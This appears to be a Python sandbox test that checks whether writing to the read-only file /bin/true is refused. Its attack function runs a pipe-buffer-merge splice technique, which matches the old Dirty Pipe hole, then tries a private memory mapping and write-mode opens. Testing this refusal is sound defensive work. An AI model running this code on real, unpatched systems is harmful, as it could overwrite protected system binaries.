# about: changes files that it may only read, through splice and private mappings
# expect: pass
# test: refused
import mmap
import os


def attack():
    reached = []
    target = os.path.realpath("/bin/true")
    with open(target, "rb") as file:
        before = file.read(64)
        fd = file.fileno()
        read_end, write_end = os.pipe()
        # A pipe whose buffers claim that they may be merged (the shape of an old hole).
        os.write(write_end, b"x" * 65536)
        os.read(read_end, 65536)
        if hasattr(os, "splice"):
            os.splice(fd, write_end, 1, offset_src=0)
            os.write(write_end, b"bcb")
        private = mmap.mmap(fd, 64, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ | mmap.PROT_WRITE)
        private[0:3] = b"bcb"
        for mode in ("r+b", "ab"):
            try:
                open(target, mode).close()
                reached.append(mode)
            except OSError:
                pass
    with open(target, "rb") as file:
        if file.read(64) != before:
            reached.append("changed")
    return reached
